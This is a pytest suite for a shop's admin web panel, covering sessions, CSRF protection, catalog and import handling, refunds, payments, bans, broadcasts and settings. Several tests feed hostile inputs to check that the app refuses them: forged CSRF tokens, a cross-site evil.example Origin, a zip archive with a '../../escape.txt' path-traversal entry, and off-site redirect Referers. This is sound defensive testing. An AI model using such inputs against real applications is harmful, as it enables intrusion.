"""The owner's admin over real HTTP: access control, every action's effect and its audit row."""

import csv
import html
import io
import json
import re
import sqlite3
import subprocess
import sys
import zipfile

import pytest
import requests

import shop
from conftest import ADMIN_PASSWORD as PASSWORD
from conftest import ROOT, emulator, free_port, png, seed, user
from harness import AdminClient


@pytest.fixture
def admin(make_shop):
    s = make_shop(env={"ADMIN_PASSWORD": PASSWORD})
    s.conn = shop.connect(s.config.shop_db)
    a = AdminClient(s.url, PASSWORD, shop=s)
    assert a.login().status_code == 303
    yield a
    s.conn.close()


def audit_actions(conn):
    return [r[0] for r in conn.execute("SELECT action FROM audit_log ORDER BY id")]


# Access


def test_every_admin_page_needs_a_session(make_shop):
    s = make_shop(env={"ADMIN_PASSWORD": PASSWORD})
    anonymous = requests.Session()
    for path in (
        "/admin",
        "/admin/catalog",
        "/admin/orders",
        "/admin/orders/1",
        "/admin/payments",
        "/admin/users",
        "/admin/broadcast",
        "/admin/settings",
        "/admin/data",
        "/admin/audit",
        "/admin/backup",
        "/admin/export/orders.csv",
        "/admin/export/ledger.csv",
        "/admin/products/new",
    ):
        r = anonymous.get(s.url + path, allow_redirects=False, timeout=5)
        assert r.status_code == 303 and "/admin/login" in r.headers["Location"], path
    for path in (
        "/admin/cities",
        "/admin/orders/1/refund",
        "/admin/users/1/balance",
        "/admin/broadcast",
        "/admin/settings",
        "/admin/logout",
    ):
        r = anonymous.post(s.url + path, data={"name": "x"}, allow_redirects=False, timeout=5)
        assert r.status_code == 303 and "/admin/login" in r.headers["Location"], path
    htmx = anonymous.get(s.url + "/admin/orders", headers={"HX-Request": "true"}, timeout=5)
    assert htmx.headers["HX-Redirect"] == "/admin/login"
    login = anonymous.get(s.url + "/admin/login", timeout=5)
    assert (
        "script-src 'self'" in login.headers["Content-Security-Policy"]
        and "frame-ancestors 'none'" in login.headers["Content-Security-Policy"]
    )


def test_login_logout_and_the_session_cookie(admin):
    cookie = next(c for c in admin.http.cookies if c.name == "shop_admin")
    assert cookie.has_nonstandard_attr("HttpOnly") and cookie.path == "/admin"
    raw = admin.http.post(
        admin.shop.url + "/admin/login",
        data={"password": PASSWORD},
        allow_redirects=False,
        timeout=5,
    ).headers["Set-Cookie"]
    assert "samesite=strict" in raw.lower() and "HttpOnly" in raw
    admin.login()  # the new session has its own CSRF token
    token_hashes = [r[0] for r in admin.shop.conn.execute("SELECT token_hash FROM admin_sessions")]
    assert cookie.value not in token_hashes and len(token_hashes) == 3  # only hashes are kept
    assert admin.get("/admin").status_code == 200
    assert admin.post("/admin/logout").status_code == 303
    assert admin.get("/admin", allow_redirects=False).status_code == 303
    assert audit_actions(admin.shop.conn)[-1] == "logged out"


def test_wrong_passwords_are_refused_and_then_throttled(make_shop):
    s = make_shop(env={"ADMIN_PASSWORD": PASSWORD})
    a = AdminClient(s.url, PASSWORD)
    for _ in range(5):
        r = a.login("guess")
        assert r.status_code == 403 and "Wrong password" in r.text
    r = a.login(PASSWORD)  # even the right one waits now
    assert r.status_code == 429 and "Too many failed attempts" in r.text
    conn = shop.connect(s.config.shop_db)
    assert audit_actions(conn).count("login failed") == 5
    conn.close()


def test_a_missing_or_wrong_csrf_token_or_a_cross_site_post_is_refused(admin):
    cases = [
        ({"csrf": False}, "CSRF"),
        ({"data": {"csrf_token": "forged"}, "csrf": False}, "CSRF"),
        ({"headers": {"Sec-Fetch-Site": "cross-site"}}, "Cross-site"),
        ({"headers": {"Origin": "https://evil.example"}}, "Cross-site"),
    ]
    for kw, words in cases:
        kw.setdefault("data", {})
        kw["data"] = {**kw["data"], "name": "Atlantis"}
        r = admin.post("/admin/cities", **kw)
        assert r.status_code == 403 and words in r.text, kw
    ok = admin.post(
        "/admin/cities", data={"name": "Atlantis"}, headers={"X-CSRF-Token": admin.csrf}, csrf=False
    )
    assert ok.status_code == 303
    assert [r[0] for r in admin.shop.conn.execute("SELECT name FROM cities")] == ["Atlantis"]


def test_an_idle_session_expires(admin):
    admin.shop.conn.execute("UPDATE admin_sessions SET last_seen_at = ?", (shop.now_iso(-31 * 60),))
    r = admin.get("/admin", allow_redirects=False)
    assert r.status_code == 303 and "/admin/login" in r.headers["Location"]
    assert admin.shop.conn.execute("SELECT count(*) FROM admin_sessions").fetchone()[0] == 0


def test_without_admin_password_the_first_start_prints_one_and_keeps_only_its_hash(tmp_path):
    env = {k: v for k, v in __import__("os").environ.items() if k not in shop.ENV_VARS}
    env.update(PORT=str(free_port()), SHOP_DB=str(tmp_path / "s.db"), PYTHONUNBUFFERED="1")
    from conftest import ShopProcess

    proc = ShopProcess(tmp_path, env).start("--no-demo")
    line = proc.wait_log("Admin password (shown once")
    password = line.rsplit(": ", 1)[1].strip()
    proc.stop()
    assert password not in "\n".join(logged for logged in proc.lines if logged is not line)
    conn = shop.connect(str(tmp_path / "s.db"))
    stored = conn.execute(
        "SELECT value FROM settings WHERE key = 'admin_password_hash'"
    ).fetchone()[0]
    assert (
        stored.startswith("scrypt$")
        and password not in stored
        and shop.check_password(password, stored)
    )
    proc2 = ShopProcess(tmp_path, env).start("--no-demo")  # not again on the next start
    proc2.stop()
    assert "Admin password" not in proc2.log
    r = subprocess.run(
        [sys.executable, str(ROOT / "shop.py"), "admin-password", "a new long secret"],
        cwd=tmp_path,
        env=env,
        capture_output=True,
        text=True,
        timeout=30,
    )
    assert r.returncode == 0
    assert shop.check_password(
        "a new long secret",
        conn.execute("SELECT value FROM settings WHERE key = 'admin_password_hash'").fetchone()[0],
    )
    conn.close()


# Catalog


def test_places_are_added_renamed_moved_and_hidden(admin):
    for name in ("Berlin", "Lisbon", "Łódź <Centrum>"):
        assert admin.post("/admin/cities", {"name": name}).status_code == 303
    conn = admin.shop.conn
    ids = dict(conn.execute("SELECT name, id FROM cities").fetchall())
    admin.post(f"/admin/city/{ids['Łódź <Centrum>']}", {"action": "up"})
    assert [r[0] for r in conn.execute("SELECT name FROM cities ORDER BY position")] == [
        "Berlin",
        "Łódź <Centrum>",
        "Lisbon",
    ]
    admin.post(f"/admin/city/{ids['Lisbon']}", {"action": "rename", "name": "Lisboa"})
    admin.post(f"/admin/city/{ids['Berlin']}", {"action": "hide"})
    admin.post("/admin/districts", {"city_id": ids["Lisbon"], "name": "Alfama"})
    assert conn.execute(
        "SELECT name, is_hidden FROM cities WHERE id = ?", (ids["Berlin"],)
    ).fetchone()[:] == ("Berlin", 1)
    assert conn.execute("SELECT name FROM districts").fetchall()[0][0] == "Alfama"
    for bad in ({"name": "Lisboa"}, {"name": ""}, {"name": "x" * 65}):
        admin.post("/admin/cities", bad)
        assert admin.flash("/admin/catalog").startswith("⚠️")
    assert conn.execute("SELECT count(*) FROM cities").fetchone()[0] == 3
    assert audit_actions(conn)[1:] == ["city added"] * 3 + [
        "city moved up",
        "city renamed",
        "city hidden",
        "district added",
    ]
    page = admin.get("/admin/catalog").text
    assert "Łódź &lt;Centrum&gt;" in page and "<Centrum>" not in page


def places_in_order(conn):
    """The cities in the order shoppers see them, each with its districts: [(city, [district])]."""
    cities = conn.execute("SELECT id, name FROM cities ORDER BY position, name").fetchall()
    return [
        (
            name,
            [
                r[0]
                for r in conn.execute(
                    "SELECT name FROM districts WHERE city_id = ? ORDER BY position, name", (cid,)
                )
            ],
        )
        for cid, name in cities
    ]


def place_ids(conn, table, *names):
    ids = dict(conn.execute(f"SELECT name, id FROM {table}").fetchall())
    return [ids[n] for n in names]


HTMX = {"HX-Request": "true"}


def test_places_are_put_in_order_at_once_and_a_wrong_order_changes_nothing(admin):
    conn = admin.shop.conn
    seed(conn, [(c, d, "Gift card", 2500, 1) for c, d in [
        ("Berlin", "Mitte"), ("Berlin", "Kreuzberg"), ("Lisbon", "Alfama"), ("Porto", "Ribeira")
    ]])  # fmt: skip
    cities = place_ids(conn, "cities", "Porto", "Berlin", "Lisbon")
    districts = place_ids(conn, "districts", "Ribeira", "Mitte", "Kreuzberg", "Alfama")
    r = admin.post("/admin/places/order", {"city": cities, "district": districts})
    assert r.status_code == 303 and r.headers["Location"].endswith("/admin/catalog#places")
    assert admin.flash("/admin/catalog") == "Order saved: shoppers see the places in this order."
    order = [("Porto", ["Ribeira"]), ("Berlin", ["Mitte", "Kreuzberg"]), ("Lisbon", ["Alfama"])]
    assert places_in_order(conn) == order
    assert (
        conn.execute("SELECT details FROM audit_log WHERE action = 'places reordered'").fetchall()[
            0
        ][0]
        == "cities: Porto, Berlin, Lisbon; Berlin: Mitte, Kreuzberg"
    )

    audited = len(audit_actions(conn))
    same = admin.post("/admin/places/order", {"city": cities, "district": districts}, headers=HTMX)
    assert same.status_code == 200 and same.text == "Nothing moved."
    berlin_first = [cities[1], cities[0], cities[2]]
    wrong = [
        ({"csrf": False}, 403, "CSRF"),
        ({"headers": {"Origin": "https://evil.example"}}, 403, "Cross-site"),
        ({"data": {"city": cities[:2], "district": districts}}, 400, "the shop's cities"),
        ({"data": {"city": cities + cities[:1], "district": districts}}, 400, "twice (#"),
        ({"data": {"city": cities[:2] + [99], "district": districts}}, 400, "the shop's cities"),
        ({"data": {"city": cities, "district": districts[:-1]}}, 400, "the shop's districts"),
        ({"data": {"city": [*cities[:2], "x"], "district": districts}}, 400, "not one of"),
        ({"data": {"city": berlin_first}}, 400, "the shop's districts"),  # every district, too
    ]
    for kw, status, words in wrong:
        kw = {"data": {"city": berlin_first, "district": districts}, **kw}
        r = admin.post("/admin/places/order", headers={**HTMX, **kw.pop("headers", {})}, **kw)
        said = html.unescape(r.text)
        assert r.status_code == status and words in said, (kw, r.status_code, said[:300])
        if status == 400:  # the places as they are, with the reason, where the owner dragged
            assert r.headers["HX-Retarget"] == "#places" and 'role="alert"' in r.text
            assert r.text.index("Porto") < r.text.index("Berlin") < r.text.index("Lisbon")
    plain = admin.post("/admin/places/order", {"city": cities[:1], "district": districts})
    assert plain.status_code == 303
    assert admin.flash("/admin/catalog").startswith("⚠️ The new order does not list the shop's")
    assert places_in_order(conn) == order and len(audit_actions(conn)) == audited


def test_a_place_is_changed_in_its_own_form_on_the_catalog_page(admin):
    conn = admin.shop.conn
    seed(conn, [(c, "Centre", "Gift card", 2500, 1) for c in ("Berlin", "Lisbon", "Porto")])
    berlin, lisbon, porto = place_ids(conn, "cities", "Berlin", "Lisbon", "Porto")
    row = admin.get(f"/admin/city/{lisbon}/row", headers=HTMX).text
    assert 'id="city-%d-row"' % lisbon in row and "1 district · 1 on sale" in row
    form = admin.get(f"/admin/city/{lisbon}/edit", headers=HTMX).text
    assert 'name="name" required maxlength="64" value="Lisbon"' in form
    assert '<option value="2" selected>2</option>' in form
    page = admin.get(f"/admin/catalog?edit=city-{lisbon}").text  # the same, without JavaScript
    assert f'action="/admin/city/{lisbon}"' in page and 'value="Lisbon" autofocus' in page

    before = [tuple(r) for r in conn.execute("SELECT * FROM cities ORDER BY id")]
    refused = [  # the rename comes first in the form: a later refusal undoes it too
        ({"name": "Lisboa", "position": "4"}, 400, "Choose a position from 1 to 3."),
        ({"name": "Lisboa", "position": "first"}, 400, "Choose a position."),
        ({"name": "Berlin", "position": "2"}, 400, "That name is taken: “Berlin”."),
        ({"name": "  ", "position": "2"}, 400, "The city name is empty"),
        ({"name": "Lisboa", "position": "1", "csrf": False}, 403, "CSRF"),
    ]
    for data, status, words in refused:
        csrf = data.pop("csrf", True)
        r = admin.post(
            f"/admin/city/{lisbon}", {"action": "save", "hidden": "1", **data}, csrf, headers=HTMX
        )
        assert r.status_code == status and words in html.unescape(r.text), (data, r.text[:300])
        if status == 400:  # the form again, as typed, with the reason
            assert 'role="alert"' in r.text and f'value="{data["name"]}"' in r.text
            assert "checked" in r.text.split('name="hidden"')[1][:40]
    assert [tuple(r) for r in conn.execute("SELECT * FROM cities ORDER BY id")] == before

    r = admin.post(
        f"/admin/city/{lisbon}",
        {"action": "save", "name": "Lisboa", "position": "3", "hidden": "1"},
        headers=HTMX,
    )
    assert r.status_code == 200 and r.headers["HX-Retarget"] == "#places"
    assert (
        "Lisboa saved." in r.text
        and "autofocus" in r.text.split(f"/admin/city/{lisbon}/edit")[1][:120]
    )
    assert [c for c, _ in places_in_order(conn)] == ["Berlin", "Porto", "Lisboa"]
    assert conn.execute("SELECT is_hidden FROM cities WHERE id = ?", (lisbon,)).fetchone()[0] == 1
    r = admin.post(  # a plain form: back to the catalog, which says so
        f"/admin/city/{porto}", {"action": "save", "name": "Porto", "position": "1"}
    )
    assert r.status_code == 303 and r.headers["Location"].endswith(f"/admin/catalog#city-{porto}")
    assert admin.flash("/admin/catalog") == "Porto saved."
    assert [c for c, _ in places_in_order(conn)] == ["Porto", "Berlin", "Lisboa"]
    assert audit_actions(conn)[-4:] == ["city renamed", "city hidden", "city moved", "city moved"]
    assert (
        conn.execute(
            "SELECT details FROM audit_log WHERE action = 'city moved' ORDER BY id"
        ).fetchall()[0][0]
        == f"#{lisbon} Lisbon to 3 of 3"
    )


def rule_part(page):
    """Telegram's rule panel in a page or fragment."""
    return page[page.index('id="telegram-rule"') :]


def test_a_product_is_changed_in_its_row_on_the_catalog_page(admin):
    conn = admin.shop.conn
    seed(
        conn,
        [("Berlin", "Mitte", "Gift card", 2500, 2), ("Berlin", "Kreuzberg", "Gift card", 2500, 1)],
    )
    photo = shop.store_media(admin.shop.config.media_dir, png(), "png", private=False)
    with shop.transaction(conn):
        conn.execute(
            "UPDATE products SET description = 'Any shop', photo = ?, kind = 'digital'", (photo,)
        )
    product = conn.execute("SELECT id FROM products").fetchone()[0]
    row = admin.get(f"/admin/products/{product}/row", headers=HTMX).text
    assert f'src="/media/{photo}"' in row and "Berlin / Mitte <b>2</b>" in row
    assert "Berlin / Kreuzberg <b>1</b>" in row and '<b class="total">3</b>' in row
    form = admin.get(f"/admin/products/{product}/edit", headers=HTMX).text
    assert 'name="price" required inputmode="decimal" value="25.00"' in form
    assert 'value="digital" checked' in form

    fields = {"name": "Gift card", "price": "25.00", "kind": "digital", "active": "1"}
    fields |= {"methods_listed": "1", "methods": ["stars"], "stars_price": ""}
    before = [tuple(r) for r in conn.execute("SELECT * FROM products")]
    audited = len(audit_actions(conn))
    for change, status, words in [
        ({"price": "abc"}, 400, "The price must be an amount in EUR"),
        ({"stars_price": "0"}, 400, "The Stars price must be a whole number"),
        ({"methods": []}, 400, "Choose at least one way"),
        ({"name": ""}, 400, "The product name is empty"),
        ({"csrf": False}, 403, "CSRF"),
    ]:
        csrf = change.pop("csrf", True)
        r = admin.post(f"/admin/products/{product}/row", {**fields, **change}, csrf, headers=HTMX)
        assert r.status_code == status and words in html.unescape(r.text), (change, r.text[:300])
        if status == 400:  # the row's form again, as typed, with the reason
            assert 'role="alert"' in r.text and 'class="product editing"' in r.text
    assert [tuple(r) for r in conn.execute("SELECT * FROM products")] == before
    assert len(audit_actions(conn)) == audited

    r = admin.post(
        f"/admin/products/{product}/row",
        {**fields, "price": "19,90", "stars_price": "900", "methods": ["stars", "crypto"]},
        headers=HTMX,
    )
    assert r.status_code == 200 and "€19.90" in r.text and "900 ⭐" in r.text
    said = re.search(r'<p id="catalog-status"[^>]*hx-swap-oob="true">([^<]*)</p>', r.text)
    assert said.group(1) == "Gift card saved."  # and Telegram's rule panel, as it is now:
    assert 'id="telegram-rule" hx-swap-oob="true"' in r.text and "Gift card" in rule_part(r.text)
    saved = conn.execute("SELECT * FROM products").fetchone()
    assert (saved["price_cents"], saved["stars_price"], saved["pay_methods"]) == (
        1990,
        900,
        "stars,crypto",
    )
    assert (saved["description"], saved["photo"]) == ("Any shop", photo)  # not in the row's form
    assert audit_actions(conn)[-1] == "product changed"
    r = admin.post(f"/admin/products/{product}/row", {**fields, "methods": ["crypto"]})
    assert r.status_code == 303 and r.headers["Location"].endswith(f"#product-{product}")
    assert admin.flash("/admin/catalog").startswith("⚠️ Gift card saved, but nobody can buy it now")
    assert admin.get("/admin/products/999/edit", headers=HTMX).status_code == 404


def test_products_photos_and_units(admin, tmp_path):
    conn = admin.shop.conn
    admin.post("/admin/cities", {"name": "Berlin"})
    city = conn.execute("SELECT id FROM cities").fetchone()[0]
    admin.post("/admin/districts", {"city_id": city, "name": "Mitte"})
    district = conn.execute("SELECT id FROM districts").fetchone()[0]
    r = admin.post(
        "/admin/products",
        {"name": 'Tea <b>& "Co"', "description": "Green\nsencha", "price": "12,50", "active": "1"},
        files={"photo": ("tea.png", png(), "image/png")},
    )
    assert r.status_code == 303
    product = conn.execute("SELECT * FROM products").fetchone()
    assert (product["name"], product["price_cents"], product["is_active"]) == (
        'Tea <b>& "Co"',
        1250,
        1,
    )
    assert admin.get("/media/" + product["photo"]).content == png()
    before = conn.execute("SELECT * FROM products").fetchall()
    for files, words in (
        (("notes.txt", b"just text", "image/png"), "not a JPEG"),
        (("big.png", png() + b"\0" * shop.MAX_IMAGE_BYTES, "image/png"), "larger than 10 MB"),
    ):
        r = admin.post(
            f"/admin/products/{product['id']}",
            {"name": "Changed", "price": "1"},
            files={"photo": files},
        )
        assert r.status_code == 400 and words in r.text
        assert 'value="Changed"' in r.text  # what the owner typed is still there
    assert [tuple(r) for r in conn.execute("SELECT * FROM products")] == [tuple(r) for r in before]
    r = admin.post(
        f"/admin/products/{product['id']}/units",
        {"district_id": district, "units": "CODE-1\n\nCODE-2 line one\nline two\n\nCODE-3"},
        files={"media": ("locker.png", png(rgb=(1, 2, 3)), "image/png")},
    )
    assert "3 units added" in admin.flash(f"/admin/products/{product['id']}")
    units = conn.execute("SELECT content, media FROM stock_units ORDER BY id").fetchall()
    assert [u[0] for u in units] == ["CODE-1", "CODE-2 line one\nline two", "CODE-3"]
    assert all(u[1] and admin.get("/media/" + u[1]).status_code == 404 for u in units)  # private
    admin.post(f"/admin/products/{product['id']}/units", {"district_id": district, "units": "A\nB"})
    assert conn.execute("SELECT count(*) FROM stock_units").fetchone()[0] == 5
    buyer = user(conn, 9, balance=1250)
    shop.buy_with_balance(conn, buyer, [(product["id"], district, 1)])
    sold = conn.execute("SELECT id FROM stock_units WHERE status = 'sold'").fetchone()[0]
    admin.post(f"/admin/units/{sold}/delete")
    assert "never ordered" in admin.flash(f"/admin/products/{product['id']}")
    spare = conn.execute("SELECT id FROM stock_units WHERE content = 'B'").fetchone()[0]
    admin.post(f"/admin/units/{spare}/delete", headers={"HX-Request": "true"})
    assert conn.execute("SELECT count(*) FROM stock_units").fetchone()[0] == 4
    assert audit_actions(conn)[-4:] == [
        "product added",
        "units added",
        "units added",
        "unit deleted",
    ]


def zip_of(files):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        for name, data in files.items():
            z.writestr(name, data)
    return buffer.getvalue()


def test_a_catalog_import_is_previewed_then_confirmed(admin):
    conn = admin.shop.conn
    catalog = {
        "cities": [{"name": "Kraków", "districts": ["Kazimierz"]}],
        "products": [
            {
                "name": "Poster",
                "price": "19.00",
                "photo": "img/p.png",
                "stock": [
                    {
                        "city": "Kraków",
                        "district": "Kazimierz",
                        "content": "LOCKER 1",
                        "media": "img/l.png",
                    }
                ],
            }
        ],
    }
    archive = zip_of(
        {"catalog.json": json.dumps(catalog), "img/p.png": png(), "img/l.png": png(rgb=(9, 9, 9))}
    )
    r = admin.post("/admin/import", files={"file": ("catalog.zip", archive, "application/zip")})
    assert r.status_code == 200 and "This import would change" in r.text
    assert (
        conn.execute("SELECT count(*) FROM products").fetchone()[0] == 0
    )  # a preview changes nothing
    assert not list((admin.shop.config.media_dir / "private").glob("*"))
    token = re.search(r'name="token" value="([^"]+)"', r.text).group(1)
    assert admin.post("/admin/import/confirm", {"token": token}).status_code == 303
    assert (
        conn.execute("SELECT count(*) FROM stock_units WHERE media IS NOT NULL").fetchone()[0] == 1
    )
    assert admin.post("/admin/import/confirm", {"token": token}).status_code == 303  # used up
    assert "too old" in admin.flash("/admin/catalog")
    bad = admin.post(
        "/admin/import", files={"file": ("c.json", b'{"cities": 5}', "application/json")}
    )
    assert "nothing was imported" in bad.text and "cities: must be a list" in bad.text
    evil = zip_of({"catalog.json": "{}", "../../escape.txt": "x"})
    r = admin.post("/admin/import", files={"file": ("evil.zip", evil, "application/zip")})
    assert "points outside the archive" in r.text
    assert not (admin.shop.config.media_dir.parent.parent / "escape.txt").exists()
    assert audit_actions(conn).count("catalog imported") == 1


# Orders, payments, users


@pytest.fixture
def sale(admin):
    """A paid balance order and an open crypto invoice, by two shoppers."""
    conn = admin.shop.conn
    ids = seed(conn, [("Berlin", "Mitte", "Gift card", 2500, 4)])
    gift = ids[("Gift card", "Mitte")]
    paid = shop.buy_with_balance(conn, user(conn, 11, balance=5000), [(*gift, 1)])
    user(conn, 12)
    nonce = shop.create_checkout(conn, 12, "order", 2500, [(*gift, 1)])
    payment = admin.shop.payments.open_order_invoice(12, nonce, "btc")
    return paid, payment


def test_orders_are_filtered_searched_and_paged(admin, sale):
    conn = admin.shop.conn
    gift = conn.execute("SELECT product_id, district_id FROM stock_units LIMIT 1").fetchone()
    shop.adjust_balance(conn, 11, 200000, "many orders")
    for _ in range(2):
        seed(conn, [("Berlin", "Mitte", "Gift card", 2500, 60)])
    for _ in range(60):
        shop.buy_with_balance(conn, 11, [(*gift, 1)])
    page = admin.get("/admin/orders").text
    assert page.count('href="/admin/orders/') == 50 and "Older orders" in page
    more = (
        re.search(r'href="(/admin/orders\?before=\d+[^"]*)"', page).group(1).replace("&amp;", "&")
    )
    rest = admin.get(more, headers={"HX-Request": "true"}).text
    assert "<html" not in rest and rest.count('href="/admin/orders/') == 12  # the fragment only
    assert admin.get("/admin/orders?status=pending").text.count('href="/admin/orders/') == 1
    assert (
        admin.get("/admin/orders?q=12").text.count('href="/admin/orders/') == 2
    )  # order #12, or user 12
    assert admin.get("/admin/orders?q=%23" + str(sale[0])).text.count('href="/admin/orders/') >= 1
    for junk in ("?status=x&from=yesterday&q=%00", "?before=abc", "?q=" + "9" * 40):
        assert admin.get("/admin/orders" + junk).status_code == 200
    assert admin.get("/admin/orders/999999").status_code == 404


def test_refunding_an_order_credits_the_balance_once(admin, sale):
    paid, _ = sale
    conn = admin.shop.conn
    admin.post(f"/admin/orders/{paid}/refund", {"reason": ""})
    assert "reason is empty" in admin.flash(f"/admin/orders/{paid}")
    admin.post(f"/admin/orders/{paid}/refund", {"reason": "damaged card"})
    assert (
        conn.execute("SELECT status FROM orders WHERE id = ?", (paid,)).fetchone()[0] == "refunded"
    )
    assert shop.get_user(conn, 11)["balance_cents"] == 5000
    admin.post(f"/admin/orders/{paid}/refund", {"reason": "again"})
    assert "only paid orders" in admin.flash(f"/admin/orders/{paid}")
    assert shop.get_user(conn, 11)["balance_cents"] == 5000
    assert "refunded" in conn.execute("SELECT text FROM outbox ORDER BY id DESC").fetchone()[0]
    assert audit_actions(conn).count("order refunded") == 1


def test_resending_a_delivery(admin, sale):
    paid, _ = sale
    conn = admin.shop.conn
    conn.execute("UPDATE outbox SET status = 'sent'")
    admin.post(f"/admin/orders/{paid}/resend")
    assert (
        conn.execute(
            "SELECT count(*) FROM outbox WHERE status = 'pending' AND order_id = ?", (paid,)
        ).fetchone()[0]
        == 1  # the items again, with their header, in one message
    )
    assert "delivery re-sent" in audit_actions(conn)


def test_a_payment_is_rechecked_or_marked_as_paid(admin, sale):
    _, payment = sale
    conn = admin.shop.conn
    page = admin.get(f"/admin/payments/{payment['id']}").text
    assert payment["provider_id"] in page and "No IPN arrived" in page
    data = {**emulator(admin.shop, payment), "payment_status": "confirming"}
    with shop.transaction(conn):
        conn.execute(
            "UPDATE sandbox_payments SET data = ? WHERE id = ?",
            (shop.encode_json(data), int(payment["provider_id"])),
        )
    admin.post(f"/admin/payments/{payment['id']}/recheck")
    assert "waiting -> confirming" in admin.flash(f"/admin/payments/{payment['id']}")
    admin.post(f"/admin/payments/{payment['id']}/mark-paid", {"reason": ""})
    assert conn.execute("SELECT status FROM payments").fetchone()[0] == "confirming"
    admin.post(
        f"/admin/payments/{payment['id']}/mark-paid", {"reason": "paid in cash at the counter"}
    )
    assert conn.execute("SELECT status, outcome, final_source FROM payments").fetchone()[:] == (
        "finished",
        "delivered",
        "admin",
    )
    assert (
        conn.execute("SELECT status FROM orders WHERE id = ?", (payment["order_id"],)).fetchone()[0]
        == "paid"
    )
    admin.post(f"/admin/payments/{payment['id']}/mark-paid", {"reason": "twice"})
    assert "already finished" in admin.flash(f"/admin/payments/{payment['id']}")
    assert audit_actions(conn)[-2:] == ["payment re-checked", "payment marked as paid"]
    assert admin.get("/admin/payments?status=finished").text.count(payment["provider_id"]) == 1


def test_users_balance_and_bans(admin, sale):
    conn = admin.shop.conn
    assert admin.get("/admin/users?q=11").text.count('href="/admin/users/11"') == 1
    admin.post("/admin/users/12/balance", {"amount": "10,50", "reason": "cash"})
    admin.post("/admin/users/12/balance", {"amount": "-0.50", "reason": "fee"})
    for bad in (
        {"amount": "5", "reason": ""},
        {"amount": "-99", "reason": "too much"},
        {"amount": "x", "reason": "r"},
    ):
        admin.post("/admin/users/12/balance", bad)
        assert admin.flash("/admin/users/12").startswith("⚠️")
    assert shop.get_user(conn, 12)["balance_cents"] == 1000
    admin.post("/admin/users/12/ban")
    assert shop.get_user(conn, 12)["is_banned"] == 1
    admin.post("/admin/users/12/unban")
    assert shop.get_user(conn, 12)["is_banned"] == 0
    assert audit_actions(conn)[-4:] == [
        "balance adjusted",
        "balance adjusted",
        "user banned",
        "user unbanned",
    ]
    assert shop.check_ledger(conn) == []
    assert admin.get("/admin/users/424242").status_code == 404


def test_a_refused_action_goes_back_only_to_an_admin_page_of_this_shop(admin, sale):
    bad = {"amount": "5", "reason": ""}
    host = admin.shop.url.split("//")[1]
    for referer, back in (
        (f"{admin.shop.url}/admin/users/12?tab=ledger", "/admin/users/12?tab=ledger"),
        ("https://elsewhere.example/admin/users", "/admin"),
        (f"http://{host}//elsewhere.example/x", "/admin"),
        (f"{admin.shop.url}/app", "/admin"),
        (None, "/admin"),
    ):
        r = admin.post(
            "/admin/users/12/balance", bad, headers={"Referer": referer} if referer else {}
        )
        assert (r.status_code, r.headers["Location"].split(host)[-1]) == (303, back), referer


def test_a_broadcast_reaches_everyone_who_is_not_banned(admin):
    conn = admin.shop.conn
    for uid in (21, 22, 23):
        user(conn, uid)
    shop.set_banned(conn, 23, True)
    preview = admin.get("/admin/broadcast/preview", params={"text": "Sale <b>today</b> & tomorrow"})
    assert "Sale <b>today</b> &amp; tomorrow" in preview.text  # Telegram's HTML, as it shows
    photo = {"photo": ("sale.png", png(), "image/png")}
    confirm = admin.post("/admin/broadcast", {"text": "Sale <b>today</b> & tomorrow"}, files=photo)
    assert confirm.status_code == 200 and "Send to 2 shoppers" in confirm.text
    kept = re.search(r'name="photo_ref" value="([^"]+)"', confirm.text).group(1)
    r = admin.post(
        "/admin/broadcast",
        {"text": "Sale <b>today</b> & tomorrow", "photo_ref": kept, "recipients": "2"},
    )
    broadcast = int(r.headers["Location"].rsplit("/", 1)[1])
    rows = conn.execute(
        "SELECT chat_id, text, photo FROM outbox WHERE broadcast_id = ?", (broadcast,)
    ).fetchall()
    assert sorted(r[0] for r in rows) == [21, 22]
    assert rows[0][1] == "Sale <b>today</b> &amp; tomorrow" and rows[0][2] == f"public:{kept}"
    progress = admin.get(f"/admin/broadcast/{broadcast}", headers={"HX-Request": "true"}).text
    assert "2 left" in progress and 'hx-trigger="every 1s"' in progress
    conn.execute("UPDATE outbox SET status = 'sent' WHERE broadcast_id = ?", (broadcast,))
    done = admin.get(f"/admin/broadcast/{broadcast}", headers={"HX-Request": "true"}).text
    assert "2 sent" in done and "0 left" in done and "hx-trigger" not in done
    refused = admin.post("/admin/broadcast", {"text": "   "})
    assert refused.status_code == 400 and "The message is empty" in refused.text
    assert audit_actions(conn).count("broadcast started") == 1


# Settings, data, audit


def test_settings_take_effect_without_a_restart(admin, make_shop):
    conn = admin.shop.conn
    page = admin.get("/admin/settings").text
    assert 'value="usdttrc20"' in page
    r = admin.post(
        "/admin/settings",
        {
            "shop_name": "Paper & Ink",
            "welcome_text": "Hi",
            "help_text": "Help",
            "support_contact": "@help",
            "min_deposit": "7,50",
            "reservation_minutes": "45",
            "coins_listed": "1",
            "coins": ["btc", "ltc"],
        },
    )
    assert r.status_code == 303
    assert (
        admin.shop.setting("min_deposit_cents") == 750
        and admin.shop.setting("reservation_minutes") == 45
    )
    assert [c for c, _ in admin.shop.payments.coins()] == ["btc", "ltc"]
    assert shop.get_setting(conn, "shop_name") == "Paper & Ink"
    assert audit_actions(conn).count("settings changed") == 1
    for bad in (
        {"min_deposit": "0"},
        {"reservation_minutes": "0"},
        {"coins_listed": "1", "coins": []},
        {"shop_name": ""},
    ):
        form = {
            "shop_name": "Renamed",
            "welcome_text": "Hi",
            "help_text": "Help",
            "min_deposit": "7.50",
            "reservation_minutes": "45",
            **bad,
        }
        r = admin.post("/admin/settings", form)
        assert r.status_code == 400 and "Nothing was saved" in r.text, bad
    assert shop.get_setting(conn, "shop_name") == "Paper & Ink"  # a refused save keeps nothing
    assert admin.shop.setting("reservation_minutes") == 45
    same = {
        "shop_name": "Paper & Ink",
        "welcome_text": "Hi",
        "help_text": "Help\r\n",
        "support_contact": "@help",
        "min_deposit": "7.50",
        "reservation_minutes": "45",
        "coins_listed": "1",
        "coins": ["btc", "ltc"],
    }
    admin.post("/admin/settings", same)
    assert admin.flash("/admin/settings") == "Nothing changed."
    assert audit_actions(conn).count("settings changed") == 1


def test_exports_and_backups(admin, sale):
    orders_csv = admin.get("/admin/export/orders.csv")
    assert orders_csv.headers["Content-Disposition"].endswith('"orders.csv"')
    lines = orders_csv.text.splitlines()
    assert lines[0].startswith("order,created_at") and len(lines) == 3
    ledger = admin.get("/admin/export/ledger.csv").text.splitlines()
    assert ledger[0].startswith("entry,") and ",-25.00," in ledger[2]
    backup = admin.get("/admin/backup")
